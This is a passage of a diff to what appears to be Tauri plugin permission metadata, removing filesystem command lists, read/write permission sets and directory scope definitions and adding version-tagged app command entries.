-        "allow-cache-read-recursive": ["read-all", "scope-cache-recursive"],
-        "allow-cache-write": ["write-all", "scope-cache"],
-        "allow-cache-write-recursive": ["write-all", "scope-cache-recursive"],
-        "allow-config-meta": ["read-meta", "scope-config-index"],
-        "allow-config-meta-recursive": ["read-meta", "scope-config-recursive"],
-        "allow-config-read": ["read-all", "scope-config"],
-        "allow-config-read-recursive": ["read-all", "scope-config-recursive"],
-        "allow-config-write": ["write-all", "scope-config"],
-        "allow-config-write-recursive": ["write-all", "scope-config-recursive"],
-        "allow-data-meta": ["read-meta", "scope-data-index"],
-        "allow-data-meta-recursive": ["read-meta", "scope-data-recursive"],
-        "allow-data-read": ["read-all", "scope-data"],
-        "allow-data-read-recursive": ["read-all", "scope-data-recursive"],
-        "allow-data-write": ["write-all", "scope-data"],
-        "allow-data-write-recursive": ["write-all", "scope-data-recursive"],
-        "allow-desktop-meta": ["read-meta", "scope-desktop-index"],
-        "allow-desktop-meta-recursive": ["read-meta", "scope-desktop-recursive"],
-        "allow-desktop-read": ["read-all", "scope-desktop"],
-        "allow-desktop-read-recursive": ["read-all", "scope-desktop-recursive"],
-        "allow-desktop-write": ["write-all", "scope-desktop"],
-        "allow-desktop-write-recursive": ["write-all", "scope-desktop-recursive"],
-        "allow-document-meta": ["read-meta", "scope-document-index"],
-        "allow-document-meta-recursive": ["read-meta", "scope-document-recursive"],
-        "allow-document-read": ["read-all", "scope-document"],
-        "allow-document-read-recursive": ["read-all", "scope-document-recursive"],
-        "allow-document-write": ["write-all", "scope-document"],
-        "allow-document-write-recursive": ["write-all", "scope-document-recursive"],
-        "allow-download-meta": ["read-meta", "scope-download-index"],
-        "allow-download-meta-recursive": ["read-meta", "scope-download-recursive"],
-        "allow-download-read": ["read-all", "scope-download"],
-        "allow-download-read-recursive": ["read-all", "scope-download-recursive"],
-        "allow-download-write": ["write-all", "scope-download"],
-        "allow-download-write-recursive": ["write-all", "scope-download-recursive"],
-        "allow-exe-meta": ["read-meta", "scope-exe-index"],
-        "allow-exe-meta-recursive": ["read-meta", "scope-exe-recursive"],
-        "allow-exe-read": ["read-all", "scope-exe"],
-        "allow-exe-read-recursive": ["read-all", "scope-exe-recursive"],
-        "allow-exe-write": ["write-all", "scope-exe"],
-        "allow-exe-write-recursive": ["write-all", "scope-exe-recursive"],
-        "allow-font-meta": ["read-meta", "scope-font-index"],
-        "allow-font-meta-recursive": ["read-meta", "scope-font-recursive"],
-        "allow-font-read": ["read-all", "scope-font"],
-        "allow-font-read-recursive": ["read-all", "scope-font-recursive"],
-        "allow-font-write": ["write-all", "scope-font"],
-        "allow-font-write-recursive": ["write-all", "scope-font-recursive"],
-        "allow-home-meta": ["read-meta", "scope-home-index"],
-        "allow-home-meta-recursive": ["read-meta", "scope-home-recursive"],
-        "allow-home-read": ["read-all", "scope-home"],
-        "allow-home-read-recursive": ["read-all", "scope-home-recursive"],
-        "allow-home-write": ["write-all", "scope-home"],
-        "allow-home-write-recursive": ["write-all", "scope-home-recursive"],
-        "allow-localdata-meta": ["read-meta", "scope-localdata-index"],
-        "allow-localdata-meta-recursive": ["read-meta", "scope-localdata-recursive"],
-        "allow-localdata-read": ["read-all", "scope-localdata"],
-        "allow-localdata-read-recursive": ["read-all", "scope-localdata-recursive"],
-        "allow-localdata-write": ["write-all", "scope-localdata"],
-        "allow-localdata-write-recursive": ["write-all", "scope-localdata-recursive"],
-        "allow-log-meta": ["read-meta", "scope-log-index"],
-        "allow-log-meta-recursive": ["read-meta", "scope-log-recursive"],
-        "allow-log-read": ["read-all", "scope-log"],
-        "allow-log-read-recursive": ["read-all", "scope-log-recursive"],
-        "allow-log-write": ["write-all", "scope-log"],
-        "allow-log-write-recursive": ["write-all", "scope-log-recursive"],
-        "allow-picture-meta": ["read-meta", "scope-picture-index"],
-        "allow-picture-meta-recursive": ["read-meta", "scope-picture-recursive"],
-        "allow-picture-read": ["read-all", "scope-picture"],
-        "allow-picture-read-recursive": ["read-all", "scope-picture-recursive"],
-        "allow-picture-write": ["write-all", "scope-picture"],
-        "allow-picture-write-recursive": ["write-all", "scope-picture-recursive"],
-        "allow-public-meta": ["read-meta", "scope-public-index"],
-        "allow-public-meta-recursive": ["read-meta", "scope-public-recursive"],
-        "allow-public-read": ["read-all", "scope-public"],
-        "allow-public-read-recursive": ["read-all", "scope-public-recursive"],
-        "allow-public-write": ["write-all", "scope-public"],
-        "allow-public-write-recursive": ["write-all", "scope-public-recursive"],
-        "allow-resource-meta": ["read-meta", "scope-resource-index"],
-        "allow-resource-meta-recursive": ["read-meta", "scope-resource-recursive"],
-        "allow-resource-read": ["read-all", "scope-resource"],
-        "allow-resource-read-recursive": ["read-all", "scope-resource-recursive"],
-        "allow-resource-write": ["write-all", "scope-resource"],
-        "allow-resource-write-recursive": ["write-all", "scope-resource-recursive"],
-        "allow-runtime-meta": ["read-meta", "scope-runtime-index"],
-        "allow-runtime-meta-recursive": ["read-meta", "scope-runtime-recursive"],
-        "allow-runtime-read": ["read-all", "scope-runtime"],
-        "allow-runtime-read-recursive": ["read-all", "scope-runtime-recursive"],
-        "allow-runtime-write": ["write-all", "scope-runtime"],
-        "allow-runtime-write-recursive": ["write-all", "scope-runtime-recursive"],
-        "allow-temp-meta": ["read-meta", "scope-temp-index"],
-        "allow-temp-meta-recursive": ["read-meta", "scope-temp-recursive"],
-        "allow-temp-read": ["read-all", "scope-temp"],
-        "allow-temp-read-recursive": ["read-all", "scope-temp-recursive"],
-        "allow-temp-write": ["write-all", "scope-temp"],
-        "allow-temp-write-recursive": ["write-all", "scope-temp-recursive"],
-        "allow-template-meta": ["read-meta", "scope-template-index"],
-        "allow-template-meta-recursive": ["read-meta", "scope-template-recursive"],
-        "allow-template-read": ["read-all", "scope-template"],
-        "allow-template-read-recursive": ["read-all", "scope-template-recursive"],
-        "allow-template-write": ["write-all", "scope-template"],
-        "allow-template-write-recursive": ["write-all", "scope-template-recursive"],
-        "allow-video-meta": ["read-meta", "scope-video-index"],
-        "allow-video-meta-recursive": ["read-meta", "scope-video-recursive"],
-        "allow-video-read": ["read-all", "scope-video"],
-        "allow-video-read-recursive": ["read-all", "scope-video-recursive"],
-        "allow-video-write": ["write-all", "scope-video"],
-        "allow-video-write-recursive": ["write-all", "scope-video-recursive"],
-        "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"]
+    ],
+    [
+      ["2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["app_hide", "app_show", "default_window_icon", "name", "tauri_version", "version"],
+        def: ["allow-version", "allow-name", "allow-tauri-version"]
       }
-    },
-    {
-      c: [
-        "copy_file",
-        "create",
-        "exists",
-        "fstat",
-        "ftruncate",
-        "lstat",
-        "mkdir",
-        "open",
-        "read",
-        "read_dir",
-        "read_file",
-        "read_text_file",
-        "read_text_file_lines",
-        "read_text_file_lines_next",
-        "remove",
-        "rename",
-        "seek",
-        "stat",
-        "truncate",
-        "unwatch",
-        "watch",
-        "write",
-        "write_file",
-        "write_text_file"
-      ],
-      def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
-      p: {
-        "create-app-specific-dirs": {
-          a: ["mkdir"],
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPDATA" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPCACHE" },
-            { path: "$APPLOG" }
-          ]
-        },
-        "deny-webview-data-linux": {},
-        "deny-webview-data-windows": {},
-        "read-all": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists",
-            "watch",
-            "unwatch"
-          ]
-        },
-        "read-app-specific-dirs-recursive": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "exists"
-          ],
-          sa: [
-            { path: "$APPCONFIG/**" },
-            { path: "$APPDATA/**" },
-            { path: "$APPLOCALDATA/**" },
-            { path: "$APPCACHE/**" },
-            { path: "$APPLOG/**" }
-          ]
-        },
-        "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        "read-files": {
-          a: [
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists"
-          ]
-        },
-        "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        scope: {},
-        "scope-app": { sa: [{ path: "$APP/*" }] },
-        "scope-app-index": { sa: [{ path: "$APP/" }] },
-        "scope-app-recursive": { sa: [{ path: "$APP/**" }] },
-        "scope-appcache": { sa: [{ path: "$APPCACHE/*" }] },
-        "scope-appcache-index": { sa: [{ path: "$APPCACHE/" }] },
-        "scope-appcache-recursive": { sa: [{ path: "$APPCACHE/**" }] },
-        "scope-appconfig": { sa: [{ path: "$APPCONFIG/*" }] },
-        "scope-appconfig-index": { sa: [{ path: "$APPCONFIG/" }] },
-        "scope-appconfig-recursive": { sa: [{ path: "$APPCONFIG/**" }] },
-        "scope-appdata": { sa: [{ path: "$APPDATA/*" }] },
-        "scope-appdata-index": { sa: [{ path: "$APPDATA/" }] },
-        "scope-appdata-recursive": { sa: [{ path: "$APPDATA/**" }] },
-        "scope-applocaldata": { sa: [{ path: "$APPLOCALDATA/*" }] },
-        "scope-applocaldata-index": { sa: [{ path: "$APPLOCALDATA/" }] },
-        "scope-applocaldata-recursive": { sa: [{ path: "$APPLOCALDATA/**" }] },
-        "scope-applog": { sa: [{ path: "$APPLOG/*" }] },
-        "scope-applog-index": { sa: [{ path: "$APPLOG/" }] },
-        "scope-applog-recursive": { sa: [{ path: "$APPLOG/**" }] },
-        "scope-audio": { sa: [{ path: "$AUDIO/*" }] },
-        "scope-audio-index": { sa: [{ path: "$AUDIO/" }] },
-        "scope-audio-recursive": { sa: [{ path: "$AUDIO/**" }] },
-        "scope-cache": { sa: [{ path: "$CACHE/*" }] },
-        "scope-cache-index": { sa: [{ path: "$CACHE/" }] },
-        "scope-cache-recursive": { sa: [{ path: "$CACHE/**" }] },
-        "scope-config": { sa: [{ path: "$CONFIG/*" }] },
-        "scope-config-index": { sa: [{ path: "$CONFIG/" }] },
-        "scope-config-recursive": { sa: [{ path: "$CONFIG/**" }] },
-        "scope-data": { sa: [{ path: "$DATA/*" }] },
-        "scope-data-index": { sa: [{ path: "$DATA/" }] },
-        "scope-data-recursive": { sa: [{ path: "$DATA/**" }] },
-        "scope-desktop": { sa: [{ path: "$DESKTOP/*" }] },
-        "scope-desktop-index": { sa: [{ path: "$DESKTOP/" }] },
-        "scope-desktop-recursive": { sa: [{ path: "$DESKTOP/**" }] },
-        "scope-document": { sa: [{ path: "$DOCUMENT/*" }] },
-        "scope-document-index": { sa: [{ path: "$DOCUMENT/" }] },
-        "scope-document-recursive": { sa: [{ path: "$DOCUMENT/**" }] },
-        "scope-download": { sa: [{ path: "$DOWNLOAD/*" }] },
-        "scope-download-index": { sa: [{ path: "$DOWNLOAD/" }] },
-        "scope-download-recursive": { sa: [{ path: "$DOWNLOAD/**" }] },
-        "scope-exe": { sa: [{ path: "$EXE/*" }] },
-        "scope-exe-index": { sa: [{ path: "$EXE/" }] },
-        "scope-exe-recursive": { sa: [{ path: "$EXE/**" }] },
-        "scope-font": { sa: [{ path: "$FONT/*" }] },
-        "scope-font-index": { sa: [{ path: "$FONT/" }] },
-        "scope-font-recursive": { sa: [{ path: "$FONT/**" }] },
-        "scope-home": { sa: [{ path: "$HOME/*" }] },
-        "scope-home-index": { sa: [{ path: "$HOME/" }] },
-        "scope-home-recursive": { sa: [{ path: "$HOME/**" }] },
-        "scope-localdata": { sa: [{ path: "$LOCALDATA/*" }] },
-        "scope-localdata-index": { sa: [{ path: "$LOCALDATA/" }] },
-        "scope-localdata-recursive": { sa: [{ path: "$LOCALDATA/**" }] },
-        "scope-log": { sa: [{ path: "$LOG/*" }] },
-        "scope-log-index": { sa: [{ path: "$LOG/" }] },
-        "scope-log-recursive": { sa: [{ path: "$LOG/**" }] },
-        "scope-picture": { sa: [{ path: "$PICTURE/*" }] },
-        "scope-picture-index": { sa: [{ path: "$PICTURE/" }] },
-        "scope-picture-recursive": { sa: [{ path: "$PICTURE/**" }] },
-        "scope-public": { sa: [{ path: "$PUBLIC/*" }] },
-        "scope-public-index": { sa: [{ path: "$PUBLIC/" }] },
-        "scope-public-recursive": { sa: [{ path: "$PUBLIC/**" }] },
-        "scope-resource": { sa: [{ path: "$RESOURCE/*" }] },
-        "scope-resource-index": { sa: [{ path: "$RESOURCE/" }] },
-        "scope-resource-recursive": { sa: [{ path: "$RESOURCE/**" }] },
-        "scope-runtime": { sa: [{ path: "$RUNTIME/*" }] },
-        "scope-runtime-index": { sa: [{ path: "$RUNTIME/" }] },
-        "scope-runtime-recursive": { sa: [{ path: "$RUNTIME/**" }] },
-        "scope-temp": { sa: [{ path: "$TEMP/*" }] },
-        "scope-temp-index": { sa: [{ path: "$TEMP/" }] },
-        "scope-temp-recursive": { sa: [{ path: "$TEMP/**" }] },
-        "scope-template": { sa: [{ path: "$TEMPLATE/*" }] },
-        "scope-template-index": { sa: [{ path: "$TEMPLATE/" }] },
-        "scope-template-recursive": { sa: [{ path: "$TEMPLATE/**" }] },
-        "scope-video": { sa: [{ path: "$VIDEO/*" }] },
-        "scope-video-index": { sa: [{ path: "$VIDEO/" }] },
-        "scope-video-recursive": { sa: [{ path: "$VIDEO/**" }] },
-        "write-all": {
-          a: [
-            "mkdir",
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        },
-        "write-files": {
-          a: [
-            "create",
-            "copy_file",
-            "remove",
-            "rename",
-            "truncate",
-            "ftruncate",
-            "write",
-            "write_file",
-            "write_text_file"
-          ]
-        }
-      },
-      s: {
-        "allow-app-meta": ["read-meta", "scope-app-index"],
-        "allow-app-meta-recursive": ["read-meta", "scope-app-recursive"],
-        "allow-app-read": ["read-all", "scope-app"],
-        "allow-app-read-recursive": ["read-all", "scope-app-recursive"],
-        "allow-app-write": ["write-all", "scope-app"],
-        "allow-app-write-recursive": ["write-all", "scope-app-recursive"],
-        "allow-appcache-meta": ["read-meta", "scope-appcache-index"],
-        "allow-appcache-meta-recursive": ["read-meta", "scope-appcache-recursive"],
-        "allow-appcache-read": ["read-all", "scope-appcache"],
-        "allow-appcache-read-recursive": ["read-all", "scope-appcache-recursive"],
-        "allow-appcache-write": ["write-all", "scope-appcache"],
-        "allow-appcache-write-recursive": ["write-all", "scope-appcache-recursive"],
-        "allow-appconfig-meta": ["read-meta", "scope-appconfig-index"],
-        "allow-appconfig-meta-recursive": ["read-meta", "scope-appconfig-recursive"],
-        "allow-appconfig-read": ["read-all", "scope-appconfig"],
-        "allow-appconfig-read-recursive": ["read-all", "scope-appconfig-recursive"],
-        "allow-appconfig-write": ["write-all", "scope-appconfig"],
-        "allow-appconfig-write-recursive": ["write-all", "scope-appconfig-recursive"],
-        "allow-appdata-meta": ["read-meta", "scope-appdata-index"],
-        "allow-appdata-meta-recursive": ["read-meta", "scope-appdata-recursive"],
-        "allow-appdata-read": ["read-all", "scope-appdata"],
-        "allow-appdata-read-recursive": ["read-all", "scope-appdata-recursive"],
-        "allow-appdata-write": ["write-all", "scope-appdata"],
-        "allow-appdata-write-recursive": ["write-all", "scope-appdata-recursive"],
-        "allow-applocaldata-meta": ["read-meta", "scope-applocaldata-index"],
-        "allow-applocaldata-meta-recursive": ["read-meta", "scope-applocaldata-recursive"],
-        "allow-applocaldata-read": ["read-all", "scope-applocaldata"],
-        "allow-applocaldata-read-recursive": ["read-all", "scope-applocaldata-recursive"],
-        "allow-applocaldata-write": ["write-all", "scope-applocaldata"],
-        "allow-applocaldata-write-recursive": ["write-all", "scope-applocaldata-recursive"],
-        "allow-applog-meta": ["read-meta", "scope-applog-index"],
-        "allow-applog-meta-recursive": ["read-meta", "scope-applog-recursive"],
-        "allow-applog-read": ["read-all", "scope-applog"],
-        "allow-applog-read-recursive": ["read-all", "scope-applog-recursive"],
-        "allow-applog-write": ["write-all", "scope-applog"],
-        "allow-applog-write-recursive": ["write-all", "scope-applog-recursive"],
-        "allow-audio-meta": ["read-meta", "scope-audio-index"],
-        "allow-audio-meta-recursive": ["read-meta", "scope-audio-recursive"],
-        "allow-audio-read": ["read-all", "scope-audio"],
-        "allow-audio-read-recursive": ["read-all", "scope-audio-recursive"],
-        "allow-audio-write": ["write-all", "scope-audio"],
-        "allow-audio-write-recursive": ["write-all", "scope-audio-recursive"],
-        "allow-cache-meta": ["read-meta", "scope-cache-index"],
-        "allow-cache-meta-recursive": ["read-meta", "scope-cache-recursive"],
-        "allow-cache-read": ["read-all", "scope-cache"],
-        "allow-cache-read-recursive": ["read-all", "scope-cache-recursive"],
-        "allow-cache-write": ["write-all", "scope-cache"],
-        "allow-cache-write-recursive": ["write-all", "scope-cache-recursive"],
-        "allow-config-meta": ["read-meta", "scope-config-index"],
-        "allow-config-meta-recursive": ["read-meta", "scope-config-recursive"],
-        "allow-config-read": ["read-all", "scope-config"],
-        "allow-config-read-recursive": ["read-all", "scope-config-recursive"],
-        "allow-config-write": ["write-all", "scope-config"],
-        "allow-config-write-recursive": ["write-all", "scope-config-recursive"],
-        "allow-data-meta": ["read-meta", "scope-data-index"],
-        "allow-data-meta-recursive": ["read-meta", "scope-data-recursive"],
-        "allow-data-read": ["read-all", "scope-data"],
-        "allow-data-read-recursive": ["read-all", "scope-data-recursive"],
-        "allow-data-write": ["write-all", "scope-data"],
-        "allow-data-write-recursive": ["write-all", "scope-data-recursive"],
-        "allow-desktop-meta": ["read-meta", "scope-desktop-index"],
-        "allow-desktop-meta-recursive": ["read-meta", "scope-desktop-recursive"],
-        "allow-desktop-read": ["read-all", "scope-desktop"],
-        "allow-desktop-read-recursive": ["read-all", "scope-desktop-recursive"],
-        "allow-desktop-write": ["write-all", "scope-desktop"],
-        "allow-desktop-write-recursive": ["write-all", "scope-desktop-recursive"],
-        "allow-document-meta": ["read-meta", "scope-document-index"],
-        "allow-document-meta-recursive": ["read-meta", "scope-document-recursive"],
-        "allow-document-read": ["read-all", "scope-document"],
-        "allow-document-read-recursive": ["read-all", "scope-document-recursive"],
-        "allow-document-write": ["write-all", "scope-document"],
-        "allow-document-write-recursive": ["write-all", "scope-document-recursive"],
-        "allow-download-meta": ["read-meta", "scope-download-index"],
-        "allow-download-meta-recursive": ["read-meta", "scope-download-recursive"],
-        "allow-download-read": ["read-all", "scope-download"],
-        "allow-download-read-recursive": ["read-all", "scope-download-recursive"],
-        "allow-download-write": ["write-all", "scope-download"],
-        "allow-download-write-recursive": ["write-all", "scope-download-recursive"],
-        "allow-exe-meta": ["read-meta", "scope-exe-index"],
-        "allow-exe-meta-recursive": ["read-meta", "scope-exe-recursive"],
-        "allow-exe-read": ["read-all", "scope-exe"],
-        "allow-exe-read-recursive": ["read-all", "scope-exe-recursive"],
-        "allow-exe-write": ["write-all", "scope-exe"],
-        "allow-exe-write-recursive": ["write-all", "scope-exe-recursive"],
-        "allow-font-meta": ["read-meta", "scope-font-index"],
-        "allow-font-meta-recursive": ["read-meta", "scope-font-recursive"],
-        "allow-font-read": ["read-all", "scope-font"],
-        "allow-font-read-recursive": ["read-all", "scope-font-recursive"],
-        "allow-font-write": ["write-all", "scope-font"],
-        "allow-font-write-recursive": ["write-all", "scope-font-recursive"],
-        "allow-home-meta": ["read-meta", "scope-home-index"],
-        "allow-home-meta-recursive": ["read-meta", "scope-home-recursive"],
-        "allow-home-read": ["read-all", "scope-home"],
-        "allow-home-read-recursive": ["read-all", "scope-home-recursive"],
-        "allow-home-write": ["write-all", "scope-home"],
-        "allow-home-write-recursive": ["write-all", "scope-home-recursive"],
-        "allow-localdata-meta": ["read-meta", "scope-localdata-index"],
-        "allow-localdata-meta-recursive": ["read-meta", "scope-localdata-recursive"],
-        "allow-localdata-read": ["read-all", "scope-localdata"],
-        "allow-localdata-read-recursive": ["read-all", "scope-localdata-recursive"],
-        "allow-localdata-write": ["write-all", "scope-localdata"],
-        "allow-localdata-write-recursive": ["write-all", "scope-localdata-recursive"],
-        "allow-log-meta": ["read-meta", "scope-log-index"],
-        "allow-log-meta-recursive": ["read-meta", "scope-log-recursive"],
-        "allow-log-read": ["read-all", "scope-log"],
-        "allow-log-read-recursive": ["read-all", "scope-log-recursive"],
-        "allow-log-write": ["write-all", "scope-log"],
-        "allow-log-write-recursive": ["write-all", "scope-log-recursive"],
-        "allow-picture-meta": ["read-meta", "scope-picture-index"],
-        "allow-picture-meta-recursive": ["read-meta", "scope-picture-recursive"],
-        "allow-picture-read": ["read-all", "scope-picture"],
-        "allow-picture-read-recursive": ["read-all", "scope-picture-recursive"],
-        "allow-picture-write": ["write-all", "scope-picture"],
-        "allow-picture-write-recursive": ["write-all", "scope-picture-recursive"],
-        "allow-public-meta": ["read-meta", "scope-public-index"],
-        "allow-public-meta-recursive": ["read-meta", "scope-public-recursive"],
-        "allow-public-read": ["read-all", "scope-public"],
-        "allow-public-read-recursive": ["read-all", "scope-public-recursive"],
-        "allow-public-write": ["write-all", "scope-public"],
-        "allow-public-write-recursive": ["write-all", "scope-public-recursive"],
-        "allow-resource-meta": ["read-meta", "scope-resource-index"],
-        "allow-resource-meta-recursive": ["read-meta", "scope-resource-recursive"],
-        "allow-resource-read": ["read-all", "scope-resource"],
-        "allow-resource-read-recursive": ["read-all", "scope-resource-recursive"],
-        "allow-resource-write": ["write-all", "scope-resource"],
-        "allow-resource-write-recursive": ["write-all", "scope-resource-recursive"],
-        "allow-runtime-meta": ["read-meta", "scope-runtime-index"],
-        "allow-runtime-meta-recursive": ["read-meta", "scope-runtime-recursive"],
-        "allow-runtime-read": ["read-all", "scope-runtime"],
-        "allow-runtime-read-recursive": ["read-all", "scope-runtime-recursive"],
-        "allow-runtime-write": ["write-all", "scope-runtime"],
-        "allow-runtime-write-recursive": ["write-all", "scope-runtime-recursive"],
-        "allow-temp-meta": ["read-meta", "scope-temp-index"],
-        "allow-temp-meta-recursive": ["read-meta", "scope-temp-recursive"],
-        "allow-temp-read": ["read-all", "scope-temp"],
-        "allow-temp-read-recursive": ["read-all", "scope-temp-recursive"],
-        "allow-temp-write": ["write-all", "scope-temp"],
-        "allow-temp-write-recursive": ["write-all", "scope-temp-recursive"],
-        "allow-template-meta": ["read-meta", "scope-template-index"],
-        "allow-template-meta-recursive": ["read-meta", "scope-template-recursive"],
-        "allow-template-read": ["read-all", "scope-template"],
-        "allow-template-read-recursive": ["read-all", "scope-template-recursive"],
-        "allow-template-write": ["write-all", "scope-template"],
-        "allow-template-write-recursive": ["write-all", "scope-template-recursive"],
-        "allow-video-meta": ["read-meta", "scope-video-index"],
-        "allow-video-meta-recursive": ["read-meta", "scope-video-recursive"],
-        "allow-video-read": ["read-all", "scope-video"],
-        "allow-video-read-recursive": ["read-all", "scope-video-recursive"],
-        "allow-video-write": ["write-all", "scope-video"],
-        "allow-video-write-recursive": ["write-all", "scope-video-recursive"],
-        "deny-default": ["deny-webview-data-linux", "deny-webview-data-windows"]
-      }
-    },
-    {
-      c: [
-        "copy_file",
-        "create",
-        "exists",
-        "fstat",
-        "ftruncate",
-        "lstat",
-        "mkdir",
-        "open",
-        "read",
-        "read_dir",
-        "read_file",
-        "read_text_file",
-        "read_text_file_lines",
-        "read_text_file_lines_next",
-        "remove",
-        "rename",
-        "seek",
-        "stat",
-        "truncate",
-        "unwatch",
-        "watch",
-        "write",
-        "write_file",
-        "write_text_file"
-      ],
-      def: ["create-app-specific-dirs", "read-app-specific-dirs-recursive", "deny-default"],
-      p: {
-        "create-app-specific-dirs": {
-          a: ["mkdir"],
-          sa: [
-            { path: "$APPCONFIG" },
-            { path: "$APPDATA" },
-            { path: "$APPLOCALDATA" },
-            { path: "$APPCACHE" },
-            { path: "$APPLOG" }
-          ]
-        },
-        "deny-webview-data-linux": {},
-        "deny-webview-data-windows": {},
-        "read-all": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists",
-            "watch",
-            "unwatch"
-          ]
-        },
-        "read-app-specific-dirs-recursive": {
-          a: [
-            "read_dir",
-            "read_file",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "exists"
-          ],
-          sa: [
-            { path: "$APPCONFIG/**" },
-            { path: "$APPDATA/**" },
-            { path: "$APPLOCALDATA/**" },
-            { path: "$APPCACHE/**" },
-            { path: "$APPLOG/**" }
-          ]
-        },
-        "read-dirs": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        "read-files": {
-          a: [
-            "read_file",
-            "read",
-            "open",
-            "read_text_file",
-            "read_text_file_lines",
-            "read_text_file_lines_next",
-            "seek",
-            "stat",
-            "lstat",
-            "fstat",
-            "exists"
-          ]
-        },
-        "read-meta": { a: ["read_dir", "stat", "lstat", "fstat", "exists"] },
-        scope: {},
-        "scope-app": { sa: [{ path: "$APP" }, { path: "$APP/*" }] },
-        "scope-app-index": { sa: [{ path: "$APP" }] },
-        "scope-app-recursive": { sa: [{ path: "$APP" }, { path: "$APP/**" }] },
-        "scope-appcache": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/*" }] },
-        "scope-appcache-index": { sa: [{ path: "$APPCACHE" }] },
-        "scope-appcache-recursive": { sa: [{ path: "$APPCACHE" }, { path: "$APPCACHE/**" }] },
-        "scope-appconfig": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/*" }] },
-        "scope-appconfig-index": { sa: [{ path: "$APPCONFIG" }] },
-        "scope-appconfig-recursive": { sa: [{ path: "$APPCONFIG" }, { path: "$APPCONFIG/**" }] },
-        "scope-appdata": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/*" }] },
-        "scope-appdata-index": { sa: [{ path: "$APPDATA" }] },
-        "scope-appdata-recursive": { sa: [{ path: "$APPDATA" }, { path: "$APPDATA/**" }] },
-        "scope-applocaldata": { sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/*" }] },
-        "scope-applocaldata-index": { sa: [{ path: "$APPLOCALDATA" }] },
-        "scope-applocaldata-recursive": {
-          sa: [{ path: "$APPLOCALDATA" }, { path: "$APPLOCALDATA/**" }]
-        },
-        "scope-applog": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/*" }] },
-        "scope-applog-index": { sa: [{ path: "$APPLOG" }] },
-        "scope-applog-recursive": { sa: [{ path: "$APPLOG" }, { path: "$APPLOG/**" }] },
-        "scope-audio": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/*" }] },
-        "scope-audio-index": { sa: [{ path: "$AUDIO" }] },
-        "scope-audio-recursive": { sa: [{ path: "$AUDIO" }, { path: "$AUDIO/**" }] },
-        "scope-cache": { sa: [{ path: "$CACHE" }, { path: "$CACHE/*" }] },
-        "scope-cache-index": { sa: [{ path: "$CACHE" }] },
-        "scope-cache-recursive": { sa: [{ path: "$CACHE" }, { path: "$CACHE/**" }] },
-        "scope-config": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/*" }] },
-        "scope-config-index": { sa: [{ path: "$CONFIG" }] },
-        "scope-config-recursive": { sa: [{ path: "$CONFIG" }, { path: "$CONFIG/**" }] },
-        "scope-data": { sa: [{ path: "$DATA" }, { path: "$DATA/*" }] },
-        "scope-data-index": { sa: [{ path: "$DATA" }] },
-        "scope-data-recursive": { sa: [{ path: "$DATA" }, { path: "$DATA/**" }] },
-        "scope-desktop": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/*" }] },
-        "scope-desktop-index": { sa: [{ path: "$DESKTOP" }] },
-        "scope-desktop-recursive": { sa: [{ path: "$DESKTOP" }, { path: "$DESKTOP/**" }] },
-        "scope-document": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/*" }] },
-        "scope-document-index": { sa: [{ path: "$DOCUMENT" }] },
-        "scope-document-recursive": { sa: [{ path: "$DOCUMENT" }, { path: "$DOCUMENT/**" }] },
-        "scope-download": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/*" }] },
-        "scope-download-index": { sa: [{ path: "$DOWNLOAD" }] },
-        "scope-download-recursive": { sa: [{ path: "$DOWNLOAD" }, { path: "$DOWNLOAD/**" }] },
-        "scope-exe": { sa: [{ path: "$EXE" }, { path: "$EXE/*" }] },
-        "scope-exe-index": { sa: [{ path: "$EXE" }] },
-        "scope-exe-recursive": { sa: [{ path: "$EXE" }, { path: "$EXE/**" }] },
-        "scope-font": { sa: [{ path: "$FONT" }, { path: "$FONT/*" }] },
-        "scope-font-index": { sa: [{ path: "$FONT" }] },
-        "scope-font-recursive": { sa: [{ path: "$FONT" }, { path: "$FONT/**" }] },
-        "scope-home": { sa: [{ path: "$HOME" }, { path: "$HOME/*" }] },
-        "scope-home-index": { sa: [{ path: "$HOME" }] },
-        "scope-home-recursive": { sa: [{ path: "$HOME" }, { path: "$HOME/**" }] },
-        "scope-localdata": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/*" }] },
-        "scope-localdata-index": { sa: [{ path: "$LOCALDATA" }] },
-        "scope-localdata-recursive": { sa: [{ path: "$LOCALDATA" }, { path: "$LOCALDATA/**" }] },
-        "scope-log": { sa: [{ path: "$LOG" }, { path: "$LOG/*" }] },
-        "scope-log-index": { sa: [{ path: "$LOG" }] },
-        "scope-log-recursive": { sa: [{ path: "$LOG" }, { path: "$LOG/**" }] },
